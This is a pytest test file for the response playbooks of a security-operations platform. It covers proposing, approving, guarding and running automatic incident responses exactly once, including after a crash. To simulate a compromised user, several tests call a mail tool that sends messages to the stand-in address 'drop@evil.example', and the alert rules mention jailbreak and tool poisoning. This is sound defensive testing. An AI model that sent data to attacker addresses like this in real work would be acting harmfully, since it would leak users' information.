"""Playbooks: what they propose and do, once for each incident whatever restarts, and never more than guards allow."""

from __future__ import annotations

import multiprocessing
import os
import signal
from dataclasses import replace
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import pytest
import yaml

from portal.house import House
from response.responding import ask
from watchfloor.model.errors import InputError
from watchfloor.model.facts import Kind
from watchfloor.model.people import Role
from watchfloor.response import playbooks
from watchfloor.response.playbook import parse, run_tests, shipped
from watchfloor.storage import actions, people
from watchfloor.storage.control import SqlControlStore

CONFIRM = "confirm-compromised-user"

OWN: dict[str, Any] = {
    "id": "end-sessions",
    "title": "End sessions of whoever is involved in a high incident",
    "when": {"severity": ["high", "critical"]},
    "about": "user",
    "do": [{"action": "revoke_user_sessions"}],
    "approval": "automatic",
    "tests": [
        {"name": "high", "incident": {"severity": "high"}, "subjects": [{"kind": "user", "id": "a"}], "expect": ["a"]},
        {"name": "low", "incident": {"severity": "low"}, "subjects": [{"kind": "user", "id": "a"}], "expect": []},
    ],
}


@pytest.fixture
def attacked(house: House) -> House:
    house.attack()
    return house


def incident(house: House) -> str:
    (found,) = house.client(Role.SOC_OPERATOR).get("/api/incidents").json()["items"]
    assert found["severity"] == "critical"
    return str(found["id"])


def runs(house: House) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = house.client(Role.SOC_ANALYST).get("/api/playbook-runs").json()["items"]
    return found


def switch(house: House, playbook: str = CONFIRM, role: Role = Role.SECURITY_ADMIN, **values: Any) -> Any:
    return house.client(role).patch(f"/api/playbooks/{playbook}", json={"reason": "agreed on", **values})


def epoch(house: House) -> int:
    found = house.projected(Kind.USER, "griffin")
    assert found
    return int(found["epoch"])


def save(house: House, body: dict[str, Any] = OWN, role: Role = Role.SECURITY_ADMIN) -> Any:
    return house.client(role).post("/api/playbooks", json={"text": yaml.safe_dump(body)})


# -- content ------------------------------------------------------------------------------------------------------


@pytest.mark.claim("playbooks-tested")
@pytest.mark.parametrize("playbook", list(shipped().values()), ids=lambda each: each.id)
def test_every_shipped_playbook_passes_its_tests_and_asks_first(playbook: Any) -> None:
    assert [outcome for outcome in run_tests(playbook) if not outcome.is_passed] == []
    assert playbook.approval == "required"


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"do": [{"action": "explode"}]}, "there is no action 'explode'; about a user: revoke_user_sessions"),
        ({"do": [{"action": "block_agent"}]}, "block_agent is about a agent, not about a user"),
        ({"do": [{"action": "revoke_user_sessions", "options": ["hard"]}]}, "has no option hard"),
        ({"when": {"severty": ["high"]}}, "when.severty"),
        ({"tests": []}, "needs at least one row that must match and one that must not"),
        ({"about": "tool"}, "about"),
    ],
)
def test_what_is_wrong_with_a_playbook_is_said_with_its_place(change: dict[str, Any], fault: str) -> None:
    with pytest.raises(InputError, match=fault):
        parse({**OWN, **change})


# -- proposing ----------------------------------------------------------------------------------------------------


@pytest.mark.claim("playbooks-propose")
def test_a_critical_incident_about_a_user_is_proposed_to_be_confirmed_and_done_with_one_click(attacked: House) -> None:
    attacked.work("run_playbooks")
    (run,) = runs(attacked)
    assert (run["status"], run["incident_id"]) == ("proposed", incident(attacked))
    assert [(i["action"], i["subject_id"], i["state"]) for i in run["items"]] == [
        ("confirm_user_compromised", "griffin", "proposed")
    ]
    assert epoch(attacked) == 1, "nothing was done"
    browser = attacked.browser(Role.SOC_OPERATOR)
    page = browser.get(f"/incidents/{incident(attacked)}")
    assert "Proposed" in page.text and f"/proposals/{run['id']}" in page.text
    done = browser.post(f"/proposals/{run['id']}", data={"csrf": browser.headers["x-test-csrf"], "answer": "accept"})
    assert done.status_code == 303
    assert epoch(attacked) == 2
    (run,) = runs(attacked)
    assert (run["status"], run["decided_by"]) == ("done", "bruno")
    (begun,) = attacked.client(Role.SOC_ANALYST).get(f"/api/responses?incident={incident(attacked)}").json()["items"]
    assert begun["id"] == run["items"][0]["response_id"] and begun["opened_by"] == "bruno"
    again = attacked.client(Role.SOC_OPERATOR).post(f"/api/playbook-runs/{run['id']}/accept", json={})
    assert again.status_code == 409 and epoch(attacked) == 2


def test_what_was_declined_is_not_proposed_again(attacked: House) -> None:
    attacked.work("run_playbooks")
    (run,) = runs(attacked)
    client = attacked.client(Role.SOC_OPERATOR)
    assert client.post(f"/api/playbook-runs/{run['id']}/decline", json={}).status_code == 422
    answer = client.post(f"/api/playbook-runs/{run['id']}/decline", json={"reason": "our own test"})
    assert answer.json()["status"] == "declined"
    attacked.work("run_playbooks")
    assert [r["id"] for r in runs(attacked)] == [run["id"]]
    assert epoch(attacked) == 1


def test_accepting_takes_the_permissions_of_the_actions_and_every_guard(attacked: House) -> None:
    attacked.work("run_playbooks")
    (run,) = runs(attacked)
    path = f"/api/playbook-runs/{run['id']}/accept"
    assert attacked.client(Role.SOC_ANALYST).post(path, json={}).status_code == 403
    own = attacked.client(Role.SOC_OPERATOR, "griffin").post(path, json={})
    assert own.status_code == 403 and "your own account" in own.json()["detail"]
    with attacked.stores.control.read() as tx:
        assert [e.actor for e in actions.list_audit(tx, action="action:refuse")] == ["griffin"]
    assert runs(attacked)[0]["status"] == "proposed"
    assert epoch(attacked) == 1


# -- by itself ----------------------------------------------------------------------------------------------------


@pytest.mark.claim("playbooks-once")
def test_an_automatic_playbook_acts_by_itself_once_for_each_incident(attacked: House) -> None:
    attacked.clock.forward(seconds=1)
    assert switch(attacked, approval="automatic").status_code == 200
    attacked.work("run_playbooks")
    assert runs(attacked) == [], "what happened before it was switched is left to people"
    attacked.call("mail", "send_email", {"to": ["drop@evil.example"], "subject": "more", "body": "…"})
    attacked.work()
    for _ in range(3):
        attacked.work("run_playbooks")
    (run,) = runs(attacked)
    assert run["status"] == "done"
    assert epoch(attacked) == 2
    (begun,) = attacked.client(Role.SOC_ANALYST).get("/api/responses").json()["items"]
    assert begun["opened_by"] == f"system:playbook/{CONFIRM}"
    activity = attacked.client(Role.SOC_ANALYST).get(f"/api/incidents/{incident(attacked)}/activity").json()["items"]
    assert any(CONFIRM in entry["text"] for entry in activity)


@pytest.mark.parametrize(
    ("values", "why"), [({"criticality": 0}, "criticality 0"), ({"is_break_glass": True}, "break-glass")]
)
def test_what_a_guard_forbids_or_wants_approved_an_automatic_playbook_only_proposes(
    attacked: House, values: dict[str, Any], why: str
) -> None:
    with attacked.stores.control.tx("test") as tx:
        user = people.find_user(tx, "griffin")
        assert user
        people.save_user(tx, replace(user, **values))
    switch(attacked, approval="automatic")
    attacked.call("mail", "send_email", {"to": ["drop@evil.example"], "subject": "more", "body": "…"})
    attacked.work()
    attacked.work("run_playbooks")
    (run,) = runs(attacked)
    assert run["items"][0]["state"] == "proposed" and why in run["items"][0]["note"]
    assert epoch(attacked) == 1


def test_a_subject_cools_down_and_somebody_who_was_confirmed_is_left_alone(attacked: House) -> None:
    attacked.work("run_playbooks")
    (first,) = runs(attacked)
    # The incident is resolved; the thief goes on, which makes another one.
    analyst = attacked.client(Role.SOC_OPERATOR)
    analyst.patch(f"/api/incidents/{incident(attacked)}", json={"status": "resolved", "classification": "truePositive"})
    attacked.clock.forward(hours=20)
    attacked.attack()
    attacked.work("run_playbooks")
    second = next(run for run in runs(attacked) if run["id"] != first["id"])
    assert (second["status"], second["items"][0]["state"]) == ("cooled_down", "cooled_down")

    ask(attacked, "/api/users/griffin/confirm-compromised")
    attacked.clock.forward(hours=30)
    planned = attacked.client(Role.SOC_ANALYST).post("/api/playbooks/dry-run", json={"id": CONFIRM}).json()
    assert {item["state"] for each in planned for item in each["items"]} <= {"not_needed"}


# -- own playbooks ------------------------------------------------------------------------------------------------


def test_an_own_playbook_is_checked_run_and_forgotten(attacked: House) -> None:
    wrong = save(attacked, {**OWN, "do": [{"action": "explode"}]})
    assert wrong.status_code == 422 and "there is no action" in wrong.json()["detail"]
    assert save(attacked, {**OWN, "id": CONFIRM}).status_code == 409
    assert save(attacked, role=Role.SOC_OPERATOR).status_code == 403
    assert save(attacked).status_code == 200
    attacked.call("mail", "send_email", {"to": ["drop@evil.example"], "subject": "more", "body": "…"})
    attacked.work()
    attacked.work("run_playbooks")
    assert {(run["playbook_id"], run["status"]) for run in runs(attacked)} == {
        ("end-sessions", "done"), (CONFIRM, "proposed"),
    }  # fmt: skip
    assert epoch(attacked) == 2
    client = attacked.client(Role.SECURITY_ADMIN)
    assert client.delete("/api/playbooks/end-sessions").status_code == 204
    assert client.delete(f"/api/playbooks/{CONFIRM}").status_code == 409
    assert [p["id"] for p in client.get("/api/playbooks").json()] == sorted(shipped())


def test_nobody_has_a_playbook_do_by_itself_what_they_may_not_do(house: House) -> None:
    with house.stores.control.tx("test") as tx, pytest.raises(Exception, match="what you may not do"):
        playbooks.save(tx, OWN, playbooks.Operator("sam", frozenset()))


def test_a_playbook_may_ask_for_a_rule_and_a_tactic_of_the_incident_s_alerts(attacked: House) -> None:
    client = attacked.client(Role.SOC_ANALYST)
    (found,) = client.get("/api/alerts?rule=persistent-jailbreak").json()["items"]

    def planned(**when: Any) -> int:
        text = yaml.safe_dump({**OWN, "when": when, "tests": [
            {"name": "x", "incident": {"rules": ["persistent-jailbreak"], "tactics": [found["tactic"]]},
             "subjects": [{"kind": "user", "id": "a"}], "expect": ["a"]},
            {"name": "y", "incident": {"status": "resolved"}, "expect": []},
        ]})  # fmt: skip
        return len(client.post("/api/playbooks/dry-run", json={"text": text}).json())

    assert planned(rules=["persistent-jailbreak"], tactics=[found["tactic"]]) == 1
    assert planned(rules=["tool-poisoned"]) == 0
    assert planned(min_priority=100) == 0


def test_a_dry_run_says_what_would_be_done_and_does_nothing(attacked: House) -> None:
    client = attacked.client(Role.SOC_ANALYST)
    with attacked.stores.control.read() as tx:
        before = tx.revision
    planned = client.post("/api/playbooks/dry-run", json={"text": yaml.safe_dump(OWN)}).json()
    assert [(each["incident_id"], [i["state"] for i in each["items"]]) for each in planned] == [
        (incident(attacked), ["pending"])
    ]
    assert client.post("/api/playbooks/dry-run", json={"id": "quarantine-risky-agent"}).json() == []
    with attacked.stores.control.read() as tx:
        assert tx.revision == before
    assert runs(attacked) == []
    assert client.post("/api/playbooks/dry-run", json={}).status_code == 422


def test_running_one_by_hand_is_the_one_run_of_that_incident(attacked: House) -> None:
    body = {"incident_id": incident(attacked), "reason": "clear case"}
    client = attacked.client(Role.SOC_OPERATOR)
    done = client.post(f"/api/playbooks/{CONFIRM}/run", json=body)
    assert done.status_code == 200, done.text
    assert done.json()["status"] == "done" and epoch(attacked) == 2
    assert client.post(f"/api/playbooks/{CONFIRM}/run", json=body).status_code == 409
    attacked.work("run_playbooks")
    assert len(runs(attacked)) == 1


# -- crashes ------------------------------------------------------------------------------------------------------


def dying(directory: Path, incident_id: str, told: Connection) -> None:
    """A server that stores the run of an automatic playbook, and is killed as it is about to act."""
    told.send("ready")
    control = SqlControlStore.open(f"sqlite:///{directory / 'control.db'}", epoch=None)
    with control.read() as tx:
        each = playbooks.find(tx, CONFIRM)
    assert playbooks.begin(control, each, incident_id)
    os.kill(os.getpid(), signal.SIGKILL)


@pytest.mark.slow
@pytest.mark.claim("playbooks-once")
def test_a_server_killed_between_deciding_and_acting_is_followed_by_one_that_acts_once(
    attacked: House, tmp_path: Path
) -> None:
    switch(attacked, approval="automatic")
    attacked.call("mail", "send_email", {"to": ["drop@evil.example"], "subject": "more", "body": "…"})
    attacked.work()
    context = multiprocessing.get_context("forkserver")
    ours, theirs = context.Pipe(duplex=False)
    process = context.Process(target=dying, args=(tmp_path, incident(attacked), theirs))
    process.start()
    assert ours.recv() == "ready"
    process.join(60)
    assert process.exitcode == -signal.SIGKILL
    (run,) = runs(attacked)
    assert run["status"] == "running" and epoch(attacked) == 1
    for _ in range(2):
        attacked.work("run_playbooks")
    (run,) = runs(attacked)
    assert run["status"] == "done" and epoch(attacked) == 2
    assert len(attacked.client(Role.SOC_ANALYST).get("/api/responses").json()["items"]) == 1
